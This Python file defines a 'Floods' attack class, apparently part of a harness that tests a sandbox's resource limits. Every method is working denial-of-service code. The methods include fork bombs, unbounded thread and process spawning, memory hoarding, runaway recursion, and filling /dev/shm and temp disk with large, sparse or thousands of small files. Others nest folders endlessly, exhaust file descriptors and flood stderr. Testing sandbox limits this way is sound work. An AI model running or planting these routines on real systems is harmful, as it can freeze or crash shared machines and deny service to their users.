"""Uses up processes, memory, disk or descriptors, in the way that is its target."""

import multiprocessing
import os
import subprocess
import sys
import tempfile
import threading
import time
from contextlib import suppress
from pathlib import Path

from attack import Attack

HOLD = 600.0  # seconds


class Floods(Attack):
    def attempt(self) -> str:
        with suppress(OSError, RuntimeError, MemoryError, RecursionError):
            getattr(self, self.target)()
        return ""

    def forks(self) -> None:
        while True:
            if os.fork() == 0:
                time.sleep(HOLD)
                os._exit(0)

    def trees(self) -> None:
        for _ in range(12):
            with suppress(OSError):
                os.fork()
        time.sleep(0.2)

    def threads(self) -> None:
        while True:
            threading.Thread(target=time.sleep, args=(HOLD,), daemon=True).start()

    def programs(self) -> None:
        for _ in range(500):
            subprocess.Popen([sys.executable, "-S", "-c", f"import time; time.sleep({HOLD})"])

    def spawned(self) -> None:
        for _ in range(500):
            multiprocessing.get_context("fork").Process(target=time.sleep, args=(HOLD,)).start()

    def one_list(self) -> None:
        hoard = []
        while True:
            hoard.append(bytearray(os.urandom(1 << 20)))

    def many_shares(self) -> None:
        for _ in range(8):
            if os.fork() == 0:
                hoard = bytearray(os.urandom(1 << 20) * 100)
                time.sleep(HOLD)
                os._exit(len(hoard))
        time.sleep(3)

    def deep_calls(self) -> None:
        sys.setrecursionlimit(1 << 30)

        def call(depth: int) -> int:
            return call(depth + 1) + 1

        call(0)

    def shared_memory(self) -> None:
        with Path("/dev/shm/flood").open("wb") as file:
            while True:
                file.write(bytes(1 << 20))

    def large_file(self) -> None:
        with (Path(tempfile.gettempdir()) / "large").open("wb") as file:
            while True:
                file.write(bytes(1 << 20))

    def sparse_file(self) -> None:
        with (Path(tempfile.gettempdir()) / "sparse").open("wb") as file:
            file.truncate(1 << 40)

    def small_files(self) -> None:
        for number in range(30_000):
            (Path(tempfile.gettempdir()) / f"small{number}").touch()

    def deep_folders(self) -> None:
        os.chdir(tempfile.gettempdir())
        while True:
            Path("inner").mkdir()
            os.chdir("inner")

    def descriptors(self) -> None:
        held = []
        while True:
            held.append(os.open("/dev/null", os.O_RDONLY))

    def output(self) -> None:
        for _ in range(40):
            os.write(2, b"flood " * (1 << 17))
